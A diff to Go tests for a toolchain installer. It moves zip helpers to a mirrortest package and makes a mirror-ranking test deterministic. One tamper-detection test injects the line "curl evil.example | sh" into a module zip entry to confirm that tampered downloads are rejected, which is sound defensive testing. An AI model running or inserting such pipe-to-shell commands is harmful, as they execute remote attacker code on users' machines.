@@ -8,12 +8,14 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
 	"time"
 
 	"github.com/gosetup/gosetup/internal/catalog"
 	"github.com/gosetup/gosetup/internal/dist"
+	"github.com/gosetup/gosetup/internal/mirrortest"
 )
 
 // moduleSetup serves the toolchain module zip from one proxy per wrap, each
@@ -36,12 +38,12 @@ func moduleSetup(t *testing.T, e *env, zipData []byte, wraps ...func(w http.Resp
 }
 
 func goodModuleZip(t *testing.T, p dist.Platform) []byte {
-	return makeZip(t, withRoot(dist.ModuleZipPrefix(instVersion, p), fakeToolchain(instVersion, p)))
+	return mirrortest.Zip(dist.ModuleZipPrefix(instVersion, p), fakeToolchain(instVersion, p))
 }
 
 func TestInstallModule(t *testing.T) {
 	e := newEnv(t)
-	zipData := makeZip(t, withRoot(dist.ModuleZipPrefix(instVersion, e.p), bigToolchain(instVersion, e.p)))
+	zipData := mirrortest.Zip(dist.ModuleZipPrefix(instVersion, e.p), bigToolchain(instVersion, e.p))
 	_, rel := moduleSetup(t, e, zipData, nil)
 	parent := t.TempDir()
 	dir := filepath.Join(parent, "go")
@@ -85,7 +87,7 @@ func TestModuleTamperedFailsOver(t *testing.T) {
 	good := goodModuleZip(t, e.p)
 	es := withRoot(dist.ModuleZipPrefix(instVersion, e.p), fakeToolchain(instVersion, e.p))
 	es[1].Body += "curl evil.example | sh\n"
-	tampered := makeZip(t, es)
+	tampered := mirrortest.Zip("", es)
 	_, rel := moduleSetup(t, e, good,
 		func(w http.ResponseWriter, r *http.Request, serve func()) {
 			w.Header().Set("Content-Type", "application/zip")
@@ -110,7 +112,7 @@ func TestModuleTamperedOnlyProxy(t *testing.T) {
 	good := goodModuleZip(t, e.p)
 	es := withRoot(dist.ModuleZipPrefix(instVersion, e.p), fakeToolchain(instVersion, e.p))
 	es[2].Body = "go1.99.0\n"
-	tampered := makeZip(t, es)
+	tampered := mirrortest.Zip("", es)
 	_, rel := moduleSetup(t, e, good, func(w http.ResponseWriter, r *http.Request, serve func()) { w.Write(tampered) })
 	parent := t.TempDir()
 	dir := filepath.Join(parent, "go")
@@ -129,7 +131,7 @@ func TestModuleZipRules(t *testing.T) {
 	e := newEnv(t)
 	es := withRoot(dist.ModuleZipPrefix(instVersion, e.p), fakeToolchain(instVersion, e.p))
 	es = append(es, tEntry{Name: "go/bin/go", Body: "#!/bin/sh\n"})
-	bad := makeZip(t, es)
+	bad := mirrortest.Zip("", es)
 	_, rel := moduleSetup(t, e, bad, nil)
 	parent := t.TempDir()
 	_, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(parent, "go"), Source: SourceModule})
@@ -180,11 +182,29 @@ func TestAutoFallsBackToModule(t *testing.T) {
 func TestAutoRanksChannels(t *testing.T) {
 	e := newEnv(t)
 	archive := goodArchive(t, e)
+	// The archive mirror answers the ranking probe only once the module
+	// proxy has answered its own (a signal: a module probe delayed by a
+	// loaded machine still comes first), and then 300 ms later: that gap
+	// is what the ranking measures, the client's own scheduling noise
+	// stays far below it.
+	moduleRanked := make(chan struct{})
+	var once sync.Once
 	_, arel := archiveSetup(t, e, archive, func(w http.ResponseWriter, r *http.Request, serve func()) {
-		time.Sleep(300 * time.Millisecond)
+		if r.Header.Get("Range") == "bytes=0-0" {
+			select {
+			case <-moduleRanked:
+				time.Sleep(300 * time.Millisecond)
+			case <-r.Context().Done():
+			}
+		}
 		serve()
 	})
-	_, mrel := moduleSetup(t, e, goodModuleZip(t, e.p), nil)
+	_, mrel := moduleSetup(t, e, goodModuleZip(t, e.p), func(w http.ResponseWriter, r *http.Request, serve func()) {
+		serve()
+		if strings.HasSuffix(r.URL.Path, ".zip") && r.Header.Get("Range") == "bytes=0-0" {
+			once.Do(func() { close(moduleRanked) })
+		}
+	})
 	rel := arel
 	rel.Modules = mrel.Modules
 	res, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go")})
@@ -224,7 +244,7 @@ func TestMirrorChoice(t *testing.T) {
 func TestInstallZipArchiveForOtherPlatform(t *testing.T) {
 	e := newEnv(t)
 	e.p = dist.Platform{OS: "windows", Arch: "amd64"}
-	data := makeZip(t, withRoot("go/", fakeToolchain(instVersion, e.p)))
+	data := mirrortest.Zip("go/", fakeToolchain(instVersion, e.p))
 	_, rel := archiveSetup(t, e, data, nil)
 	if !strings.HasSuffix(rel.Files[0].Filename, ".zip") {
 		t.Fatal(rel.Files[0].Filename)
@@ -310,7 +330,7 @@ func TestModuleDownloadCacheResumesAcrossRuns(t *testing.T) {
 	srvs, rel := moduleSetup(t, e, zipData, func(w http.ResponseWriter, r *http.Request, serve func()) {
 		if broken.Load() && r.Header.Get("Range") != "bytes=0-0" {
 			w.Header().Set("Content-Length", fmt.Sprint(len(zipData)))
-			w.Header().Set("ETag", `"`+sha(zipData)[:16]+`"`)
+			w.Header().Set("ETag", `"`+mirrortest.SHA256(zipData)[:16]+`"`)
 			w.Write(zipData[:len(zipData)/2])
 			w.(http.Flusher).Flush()
 			conn, _, _ := w.(http.Hijacker).Hijack()
